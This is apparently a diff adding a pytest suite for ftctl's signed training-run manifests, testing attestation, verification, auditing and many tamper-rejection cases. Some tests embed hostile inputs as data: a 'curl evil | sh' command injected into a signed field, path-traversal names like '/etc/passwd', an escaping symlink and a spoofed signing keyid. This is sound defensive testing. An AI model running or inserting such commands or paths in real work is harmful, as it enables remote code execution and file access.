@@ -1,0 +1,471 @@
+"""Signed manifests: attest, verify, audit, show, log; every tamper case of REFERENCE section 3."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import subprocess
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
+from ftctl import dsse
+from ftctl.canonical import canonical_json
+from ftctl.keys import keyid, trusted_keys
+from ftctl.manifest import ManifestError, verify_artifacts, verify_bytes, verify_file
+from tests.conftest import RunCLI, write
+
+RECIPE = """\
+base_model: ./models/tiny
+adapter: lora
+datasets:
+  - path: data/train.jsonl
+    type: alpaca
+micro_batch_size: 2
+gradient_accumulation_steps: 2
+learning_rate: 0.001
+"""
+GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e"}
+
+
+def git(root: Path, *args: str) -> None:
+    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, env={**os.environ, **GIT_ENV})
+
+
+def make_run(root: Path, name: str = "run", weights: str = "weights") -> Path:
+    run = root / name
+    write(run / "adapter" / "adapter_model.safetensors", weights)
+    write(run / "adapter" / "adapter_config.json", '{"r": 8}\n')
+    write(run / "train-log.jsonl", '{"step": 1, "loss": 2.0}\n')
+    write(run / "environment.json", '{"python": "3.11.7", "torch": "2.13.0"}\n')
+    write(run / "result.json", '{"started_at": "2026-11-24T22:00:00Z", "finished_at": "2026-11-24T22:01:00Z", '
+          '"metrics": {"train_loss": 1.5}}\n')
+    return run
+
+
+@dataclass
+class Attested:
+    root: Path
+    manifest: Path
+    run: Path
+    key: Ed25519PrivateKey
+
+    @property
+    def trusted(self) -> dict[str, object]:
+        return dict(trusted_keys(self.root, ["keys/*.pub"]))
+
+    def envelope(self) -> dict[str, object]:
+        return json.loads(self.manifest.read_bytes())
+
+    def statement(self) -> dict[str, object]:
+        return json.loads(base64.b64decode(self.envelope()["payload"]))  # type: ignore[arg-type]
+
+
+@pytest.fixture
+def attested(tmp_path: Path, run_cli: RunCLI, monkeypatch: pytest.MonkeyPatch) -> Attested:
+    root = tmp_path / "ws"
+    write(root / "models" / "tiny" / "config.json", "{}\n")
+    write(root / "data" / "train.jsonl", '{"instruction": "a", "output": "b"}\n')
+    write(root / "recipes" / "tiny.yaml", RECIPE)
+    git(root, "init", "-q")
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home"))
+    assert run_cli("lock", cwd=root).code == 0
+    assert run_cli("keygen", "ci", cwd=root).code == 0
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "recipes")
+    key_path = tmp_path / "home" / "ftctl" / "keys" / "ci.key"
+    monkeypatch.setenv("FTCTL_SIGNING_KEY", str(key_path))
+    run = make_run(root)
+    result = run_cli("attest", "run", "--recipe", "tiny", cwd=root)
+    assert result.code == 0, result.err
+    key = serialization.load_pem_private_key(key_path.read_bytes(), None)
+    assert isinstance(key, Ed25519PrivateKey)
+    return Attested(root, root / result.out.strip(), run, key)
+
+
+def resign(att: Attested, statement: dict[str, object] | bytes, key: Ed25519PrivateKey | None = None) -> bytes:
+    body = statement if isinstance(statement, bytes) else canonical_json(statement)
+    return dsse.sign(body, key or att.key)
+
+
+def rejects(att: Attested, data: bytes, fragment: str, threshold: int = 1) -> None:
+    with pytest.raises(ManifestError) as info:
+        verify_bytes(data, att.trusted, Path("m.intoto.json"), threshold)  # type: ignore[arg-type]
+    assert fragment in str(info.value), str(info.value)
+
+
+# --- the happy path ------------------------------------------------------------------
+
+
+def test_attest_verify_show_log_audit(attested: Attested, run_cli: RunCLI) -> None:
+    root, rel = attested.root, str(attested.manifest.relative_to(attested.root))
+    assert rel.startswith("manifests/tiny/20261124T220100Z-") and rel.endswith(".intoto.json")
+    ok = run_cli("verify", rel, "--artifacts", "run/adapter", cwd=root)
+    assert ok.code == 0 and ok.out.startswith(f"OK {rel}: recipe tiny, fingerprint ")
+    payload = json.loads(run_cli("verify", rel, "--json", cwd=root).out)
+    assert payload["ok"] is True and payload["recipe"] == "tiny"
+    assert set(payload["subjects"]) == {"adapter_model.safetensors", "adapter_config.json"}
+    shown = run_cli("show", rel, cwd=root).out
+    assert "fingerprint  sha256:" in shown and "train_loss: 1.5" in shown
+    assert "first run  [train_loss=1.5]" in run_cli("log", "tiny", cwd=root).out
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "manifest")
+    audit = run_cli("audit", cwd=root)
+    assert audit.code == 0, audit.out
+    assert audit.lines[-1] == "1 manifest, 0 failed"
+
+
+def test_statement_shape(attested: Attested) -> None:
+    st = attested.statement()
+    assert st["_type"] == "https://in-toto.io/Statement/v1"
+    assert st["predicateType"] == "https://slsa.dev/provenance/v1"
+    definition = st["predicate"]["buildDefinition"]  # type: ignore[index]
+    assert definition["externalParameters"]["seed"] == "42"  # seeds as strings
+    names = [d["name"] for d in definition["resolvedDependencies"]]
+    assert names == ["base_model", "datasets[0]", "pins", "recipe_repository", "ftctl"]
+    lock = (attested.root / "lockfiles" / "tiny.lock").read_text()
+    assert definition["internalParameters"]["fingerprint"] in lock
+    assert attested.envelope()["payloadType"] == "application/vnd.in-toto+json"
+
+
+def test_securesystemslib_accepts_ours_and_rejects_tampered(attested: Attested) -> None:
+    from securesystemslib.dsse import Envelope
+    from securesystemslib.exceptions import VerificationError
+    from securesystemslib.signer import SSlibKey
+
+    public = attested.key.public_key()
+    oracle_key = SSlibKey.from_crypto(public, keyid=keyid(public))
+    envelope = Envelope.from_dict(attested.envelope())
+    assert keyid(public) in envelope.verify([oracle_key], 1)
+    tampered = attested.envelope()
+    body = base64.b64decode(tampered["payload"]).replace(b'"seed":"42"', b'"seed":"43"')  # type: ignore[arg-type]
+    tampered["payload"] = base64.b64encode(body).decode()
+    with pytest.raises(VerificationError):
+        Envelope.from_dict(tampered).verify([oracle_key], 1)
+
+
+# --- the reject list of REFERENCE section 3, one test each --------------------------
+
+
+def mutate_envelope(att: Attested, change: Callable[[dict[str, object]], None]) -> bytes:
+    envelope = att.envelope()
+    change(envelope)
+    return json.dumps(envelope).encode()
+
+
+def test_reject_other_payload_type(attested: Attested) -> None:
+    rejects(attested, dsse.sign(canonical_json(attested.statement()), attested.key, "application/json"),
+            "payloadType is 'application/json'")
+
+
+def test_reject_payload_type_changed_after_signing(attested: Attested) -> None:
+    data = mutate_envelope(attested, lambda e: e.update(payloadType="application/vnd.in-toto+json; x=1"))
+    rejects(attested, data, "payloadType")
+
+
+def test_reject_missing_envelope_field(attested: Attested) -> None:
+    rejects(attested, mutate_envelope(attested, lambda e: e.pop("signatures")), "not a DSSE envelope")
+
+
+def test_reject_missing_statement_field(attested: Attested) -> None:
+    st = attested.statement()
+    del st["subject"]
+    rejects(attested, resign(attested, st), "subject")
+
+
+def test_reject_altered_payload(attested: Attested) -> None:
+    def alter(e: dict[str, object]) -> None:
+        body = base64.b64decode(e["payload"]).replace(b'"seed":"42"', b'"seed":"41"')  # type: ignore[arg-type]
+        e["payload"] = base64.b64encode(body).decode()
+
+    rejects(attested, mutate_envelope(attested, alter), "no signature by a trusted key")
+
+
+def test_reject_truncated_payload(attested: Attested) -> None:
+    def cut(e: dict[str, object]) -> None:
+        e["payload"] = base64.b64encode(base64.b64decode(e["payload"])[:-10]).decode()  # type: ignore[arg-type]
+
+    rejects(attested, mutate_envelope(attested, cut), "no signature by a trusted key")
+
+
+def test_reject_extended_payload(attested: Attested) -> None:
+    def extend(e: dict[str, object]) -> None:
+        e["payload"] = base64.b64encode(base64.b64decode(e["payload"]) + b" ").decode()  # type: ignore[arg-type]
+
+    rejects(attested, mutate_envelope(attested, extend), "no signature by a trusted key")
+
+
+def test_reject_invalid_base64(attested: Attested) -> None:
+    rejects(attested, mutate_envelope(attested, lambda e: e.update(payload="not*base64")), "not valid base64")
+
+
+def test_reject_untrusted_key(attested: Attested) -> None:
+    rejects(attested, resign(attested, attested.statement(), Ed25519PrivateKey.generate()), "no signature by a trusted key")
+
+
+def test_reject_spoofed_keyid(attested: Attested) -> None:
+    data = json.loads(resign(attested, attested.statement(), Ed25519PrivateKey.generate()))
+    data["signatures"][0]["keyid"] = keyid(attested.key.public_key())  # claims to be the trusted key
+    rejects(attested, json.dumps(data).encode(), "no signature by a trusted key")
+
+
+def test_reject_same_key_counted_twice(attested: Attested) -> None:
+    data = json.loads(resign(attested, attested.statement()))
+    data["signatures"] = data["signatures"] * 2
+    rejects(attested, json.dumps(data).encode(), "1 trusted signature(s), 2 required", threshold=2)
+
+
+def test_reject_no_signatures(attested: Attested) -> None:
+    rejects(attested, mutate_envelope(attested, lambda e: e.update(signatures=[])), "has no signatures")
+
+
+def test_reject_wrong_statement_type(attested: Attested) -> None:
+    st = attested.statement()
+    st["_type"] = "https://in-toto.io/Statement/v0.1"
+    rejects(attested, resign(attested, st), "_type")
+
+
+def test_reject_wrong_predicate_type(attested: Attested) -> None:
+    st = attested.statement()
+    st["predicateType"] = "https://slsa.dev/provenance/v0.2"
+    rejects(attested, resign(attested, st), "predicateType")
+
+
+def test_reject_duplicate_keys_in_signed_payload(attested: Attested) -> None:
+    body = canonical_json(attested.statement())
+    doubled = body.replace(b'"_type":', b'"_type":"x","_type":', 1)
+    rejects(attested, resign(attested, doubled), "duplicate key '_type'")
+
+
+def test_reject_duplicate_keys_in_envelope(attested: Attested) -> None:
+    data = attested.manifest.read_bytes().replace(b'"payloadType":', b'"payloadType":"x","payloadType":', 1)
+    rejects(attested, data, "duplicate key 'payloadType'")
+
+
+def test_reject_nan(attested: Attested) -> None:
+    body = canonical_json(attested.statement()).replace(b'"seed":"42"', b'"seed":NaN', 1)
+    rejects(attested, resign(attested, body), "NaN is not allowed")
+
+
+@pytest.mark.parametrize(
+    ("name", "fragment"),
+    [("/etc/passwd", "is absolute"), ("../outside", "'..' segment"), ("sub\\evil", "backslash"),
+     ("a\x00b", "NUL"), ("C:/x", "is absolute")],
+    ids=["absolute", "dotdot", "backslash", "nul", "drive"],
+)
+def test_reject_bad_subject_names(attested: Attested, name: str, fragment: str) -> None:
+    st = attested.statement()
+    st["subject"][0]["name"] = name  # type: ignore[index]
+    rejects(attested, resign(attested, st), fragment)
+
+
+def test_reject_repeated_subject(attested: Attested) -> None:
+    st = attested.statement()
+    st["subject"] = st["subject"] * 2  # type: ignore[operator]
+    rejects(attested, resign(attested, st), "subject names repeat")
+
+
+def test_reject_non_sha256_digest(attested: Attested) -> None:
+    st = attested.statement()
+    st["subject"][0]["digest"] = {"sha1": "0" * 40}  # type: ignore[index]
+    rejects(attested, resign(attested, st), "exactly {sha256")
+
+
+def test_reject_short_base_model_commit(attested: Attested) -> None:
+    st = attested.statement()
+    deps = st["predicate"]["buildDefinition"]["resolvedDependencies"]  # type: ignore[index]
+    deps[0] = {"name": "base_model", "uri": "pkg:huggingface/org/m@main", "digest": {"gitCommit": "main"}}
+    rejects(attested, resign(attested, st), "is not a full 40-hex commit")
+
+
+def test_reject_hub_dependency_without_commit(attested: Attested) -> None:
+    st = attested.statement()
+    deps = st["predicate"]["buildDefinition"]["resolvedDependencies"]  # type: ignore[index]
+    deps[0] = {"name": "base_model", "uri": "pkg:huggingface/org/m@main", "digest": {"sha256": "0" * 64}}
+    rejects(attested, resign(attested, st), "needs a full gitCommit digest")
+
+
+def test_reject_unexpected_external_parameters(attested: Attested) -> None:
+    st = attested.statement()
+    st["predicate"]["buildDefinition"]["externalParameters"]["command"] = "curl evil | sh"  # type: ignore[index]
+    rejects(attested, resign(attested, st), "externalParameters.command")
+
+
+def artifacts_reject(att: Attested, fragment: str) -> None:
+    manifest = verify_file(att.manifest, att.trusted)  # type: ignore[arg-type]
+    with pytest.raises(ManifestError) as info:
+        verify_artifacts(manifest, att.run / "adapter")
+    assert fragment in str(info.value)
+
+
+def test_reject_file_content_differs(attested: Attested) -> None:
+    (attested.run / "adapter" / "adapter_model.safetensors").write_text("other weights")
+    artifacts_reject(attested, "adapter_model.safetensors differs from the recorded digest")
+
+
+def test_reject_missing_file(attested: Attested) -> None:
+    (attested.run / "adapter" / "adapter_config.json").unlink()
+    artifacts_reject(attested, "adapter_config.json is missing")
+
+
+def test_reject_extra_file(attested: Attested) -> None:
+    (attested.run / "adapter" / "optimizer.pkl").write_bytes(b"\x80\x04evil")
+    artifacts_reject(attested, "optimizer.pkl is not in the manifest")
+
+
+def test_reject_symlink_leaving_the_directory(attested: Attested, tmp_path: Path) -> None:
+    (tmp_path / "outside.bin").write_text("x")
+    (attested.run / "adapter" / "link.bin").symlink_to(tmp_path / "outside.bin")
+    artifacts_reject(attested, "is a symlink to")
+
+
+def test_reject_files_from_two_runs(attested: Attested) -> None:
+    other = make_run(attested.root, "other", weights="other weights")
+    (attested.run / "adapter" / "adapter_model.safetensors").write_bytes(
+        (other / "adapter" / "adapter_model.safetensors").read_bytes()
+    )
+    artifacts_reject(attested, "adapter_model.safetensors differs")
+
+
+def test_reject_provenance_copy_of_another_run(attested: Attested) -> None:
+    copy = attested.run / "adapter" / ".ftctl" / "provenance.intoto.json"
+    st = attested.statement()
+    st["predicate"]["buildDefinition"]["externalParameters"]["seed"] = "7"  # type: ignore[index]
+    write(copy, resign(attested, st).decode())
+    artifacts_reject(attested, "records another run")
+
+
+def test_registry_copy_of_the_same_run_is_accepted(attested: Attested) -> None:
+    write(attested.run / "adapter" / ".ftctl" / "provenance.intoto.json", attested.manifest.read_text())
+    verify_artifacts(verify_file(attested.manifest, attested.trusted), attested.run / "adapter")  # type: ignore[arg-type]
+
+
+def test_audit_rejects_recipe_that_differs_from_the_record(attested: Attested, run_cli: RunCLI) -> None:
+    git(attested.root, "add", "-A")
+    git(attested.root, "commit", "-qm", "manifest")
+    st = attested.statement()
+    st["predicate"]["buildDefinition"]["externalParameters"]["recipe"]["digest"]["sha256"] = "0" * 64  # type: ignore[index]
+    attested.manifest.write_bytes(resign(attested, st))
+    result = run_cli("audit", cwd=attested.root)
+    assert result.code == 1
+    assert "FAIL: the recipe bytes at" in result.out and "differ from the recorded digest" in result.out
+
+
+def test_audit_fails_uncommitted_attestation(attested: Attested, run_cli: RunCLI) -> None:
+    write(attested.root / "recipes" / "tiny.yaml", RECIPE + "seed: 7\n")
+    run_cli("lock", cwd=attested.root)
+    result = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
+    assert "not committed; `ftctl audit` will fail this manifest" in result.err
+    audit = run_cli("audit", "--json", cwd=attested.root)
+    rows = json.loads(audit.out)
+    assert audit.code == 1
+    assert any(r["reason"] == "attested from uncommitted recipe or lock files" for r in rows)
+
+
+def test_tampered_manifest_is_not_state(attested: Attested, run_cli: RunCLI) -> None:
+    from ftctl.state import read_state
+
+    good = read_state(attested.root, attested.trusted)["tiny"]  # type: ignore[arg-type]
+    assert good.current is not None and not good.rejected
+    data = attested.manifest.read_bytes().replace(b'"sig":"', b'"sig":"AAAA', 1)
+    attested.manifest.write_bytes(data)
+    state = read_state(attested.root, attested.trusted)["tiny"]  # type: ignore[arg-type]
+    assert state.current is None
+    assert state.rejected and "REJECTED" in run_cli("log", "tiny", cwd=attested.root).out
+
+
+def test_verify_failure_is_one_line(attested: Attested, run_cli: RunCLI) -> None:
+    attested.manifest.write_bytes(attested.manifest.read_bytes()[:-40])
+    result = run_cli("verify", str(attested.manifest), cwd=attested.root)
+    assert result.code == 1
+    assert result.err.startswith("FAILED ") and result.err.count("\n") == 1
+    as_json = json.loads(run_cli("verify", str(attested.manifest), "--json", cwd=attested.root).out)
+    assert as_json["ok"] is False and "not valid JSON" in as_json["reason"]
+
+
+# --- keys and attest errors -----------------------------------------------------
+
+
+def test_keygen_refuses_the_repository(tmp_path: Path, run_cli: RunCLI) -> None:
+    (tmp_path / ".git").mkdir()
+    result = run_cli("keygen", "ci", "--out", str(tmp_path / "ci.key"), cwd=tmp_path)
+    assert result.code == 1 and "refusing to write a private key inside the repository" in result.err
+
+
+def test_keygen_private_key_mode(attested: Attested, tmp_path: Path) -> None:
+    key = tmp_path / "home" / "ftctl" / "keys" / "ci.key"
+    assert key.stat().st_mode & 0o777 == 0o600
+    assert (attested.root / "keys" / "ci.pub").read_text().startswith("-----BEGIN PUBLIC KEY-----")
+
+
+def test_passphrase_protected_key(attested: Attested, tmp_path: Path, run_cli: RunCLI,
+                                  monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FTCTL_SIGNING_KEY_PASSPHRASE", "s3cret")
+    assert run_cli("keygen", "locked", "--out", str(tmp_path / "locked.key"), cwd=attested.root).code == 0
+    monkeypatch.setenv("FTCTL_SIGNING_KEY", str(tmp_path / "locked.key"))
+    assert run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root).code == 0
+    monkeypatch.setenv("FTCTL_SIGNING_KEY_PASSPHRASE", "wrong")
+    result = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
+    assert result.code == 1 and "wrong passphrase" in result.err
+
+
+def test_attest_needs_a_key(attested: Attested, run_cli: RunCLI, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("FTCTL_SIGNING_KEY")
+    result = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
+    assert result.err.startswith("ftctl: error: no signing key: FTCTL_SIGNING_KEY is not set")
+
+
+def test_attest_refuses_a_stale_lock(attested: Attested, run_cli: RunCLI) -> None:
+    write(attested.root / "recipes" / "tiny.yaml", RECIPE + "lora_r: 4\n")
+    result = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
+    assert result.code == 1 and "lockfiles/tiny.lock is stale" in result.err
+
+
+def test_attest_refuses_another_runs_fingerprint(attested: Attested, run_cli: RunCLI) -> None:
+    result_file = attested.run / "result.json"
+    data = json.loads(result_file.read_text())
+    data["fingerprint"] = "sha256:" + "0" * 64
+    result_file.write_text(json.dumps(data))
+    result = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
+    assert result.code == 1 and "the run trained fingerprint sha256:000" in result.err
+
+
+def test_attest_unfinished_run(attested: Attested, run_cli: RunCLI) -> None:
+    (attested.run / "result.json").write_text('{"started_at": "2026-11-24T22:00:00Z"}')
+    result = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
+    assert "finished_at is missing; an unfinished run cannot be attested" in result.err
+
+
+def test_secrets_never_leak(attested: Attested, run_cli: RunCLI, monkeypatch: pytest.MonkeyPatch) -> None:
+    token = "hf_PLANTEDTOKEN0123456789"
+    pem = attested.key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                                     serialization.NoEncryption()).decode()
+    monkeypatch.setenv("HF_TOKEN", token)
+    monkeypatch.setenv("FTCTL_SIGNING_KEY", pem)  # key material in the environment itself
+    (attested.run / "environment.json").write_text(json.dumps({"python": "3.11", "HF_TOKEN": token, "env": dict(os.environ)}))
+    outputs = []
+    for args in (["attest", "run", "--recipe", "tiny"], ["attest", "run", "--recipe", "nope"],
+                 ["verify", str(attested.manifest)], ["audit"], ["log", "tiny"]):
+        result = run_cli(*args, cwd=attested.root)
+        outputs.append(result.out + result.err)
+    monkeypatch.setenv("FTCTL_SIGNING_KEY", pem.replace("A", "B", 3))  # a broken key: the error must not echo it
+    broken = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
+    outputs.append(broken.out + broken.err)
+    manifests = [p.read_text() for p in (attested.root / "manifests").rglob("*.json")]
+    secret_key_body = pem.splitlines()[1]
+    for text in outputs + manifests:
+        assert token not in text
+        assert secret_key_body not in text and "PRIVATE KEY" not in text
+
+
+def test_schema_accepts_an_attested_statement(attested: Attested) -> None:
+    import jsonschema
+
+    schema = json.loads((Path(__file__).parent.parent / "docs" / "provenance.schema.json").read_text())
+    statement = json.loads(base64.b64decode(attested.envelope()["payload"]))  # type: ignore[arg-type]
+    jsonschema.Draft202012Validator(schema).validate(statement)
